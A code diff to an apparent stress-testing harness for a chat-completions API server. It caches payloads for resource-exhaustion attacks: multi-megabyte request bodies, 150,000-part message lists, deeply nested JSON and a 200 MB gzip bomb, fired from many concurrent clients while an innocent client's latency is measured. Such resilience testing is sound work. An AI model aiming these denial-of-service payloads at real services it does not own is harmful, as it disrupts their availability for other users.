@@ -23,6 +23,7 @@ from collections import Counter
 from collections.abc import Awaitable, Callable, Iterator, Sequence
 from contextlib import contextmanager, suppress
 from dataclasses import dataclass, field
+from functools import cache
 from pathlib import Path
 from typing import Any
 
@@ -60,9 +61,20 @@ class Door:
         lines += [f"authorization: Bearer {self.key}", f"content-length: {size}"]
         return ("\r\n".join(lines) + f"\r\n{more}\r\n").encode()
 
-    def chat(self, **changes: Any) -> bytes:
-        body = {"model": self.model, "messages": [{"role": "user", "content": "Hello"}]} | changes
-        return json.dumps(body).encode()
+    def chat(self, content: str = "Hello", messages: int = 1, **changes: Any) -> bytes:
+        return made_once(self.model, content, messages, tuple(changes.items()))
+
+
+# What is sent is made once: a client that makes megabytes each time attacks itself.
+@cache
+def made_once(model: str, content: str, messages: int, changes: tuple[tuple[str, Any], ...]) -> bytes:
+    said = [{"role": "user", "content": content}] * messages
+    return json.dumps({"model": model, "messages": said, **dict(changes)}).encode()
+
+
+@cache
+def packed_blanks() -> bytes:
+    return gzip.compress(b" " * (200 * MEGABYTE))
 
 
 async def post(
@@ -85,20 +97,19 @@ async def post(
         writer.transport.abort()
 
 
-def large_messages(size: int) -> list[dict[str, str]]:
-    return [{"role": "user", "content": "w " * (size // 2)}]
+LARGE = "w " * (4 * MEGABYTE - 5000)
 
 
 async def large_bodies_of_many(door: Door) -> str:
-    return await post(door, door.chat(messages=large_messages(8 * MEGABYTE - 5000), n=128))
+    return await post(door, door.chat(LARGE, n=128))
 
 
 async def large_bodies(door: Door) -> str:
-    return await post(door, door.chat(messages=large_messages(8 * MEGABYTE - 5000), max_tokens=5))
+    return await post(door, door.chat(LARGE, max_tokens=5))
 
 
 async def many_small_parts(door: Door) -> str:
-    return await post(door, door.chat(messages=[{"role": "user", "content": "x"}] * 150_000, max_tokens=5))
+    return await post(door, door.chat("x", messages=150_000, max_tokens=5))
 
 
 async def deep_json(door: Door) -> str:
@@ -106,7 +117,7 @@ async def deep_json(door: Door) -> str:
 
 
 async def gzip_bomb(door: Door) -> str:
-    return await post(door, gzip.compress(b" " * (200 * MEGABYTE)), more="content-encoding: gzip\r\n")
+    return await post(door, packed_blanks(), more="content-encoding: gzip\r\n")
 
 
 async def unread_streams(door: Door) -> str:
@@ -321,6 +332,7 @@ def attack(target: Target, other: Target, seconds: float) -> str:
     calm = Door(other.host, other.port, other.key, other.model)
     outcomes: Counter[str] = Counter()
     most: dict[str, int] = {}
+    packed_blanks()
     before = start_innocent(calm, CALM_SECONDS).recv()
     meanwhile = start_innocent(calm, seconds)
     clients = [attack_forever(one, door, outcomes) for one, count in ATTACKS.items() for _ in range(count)]
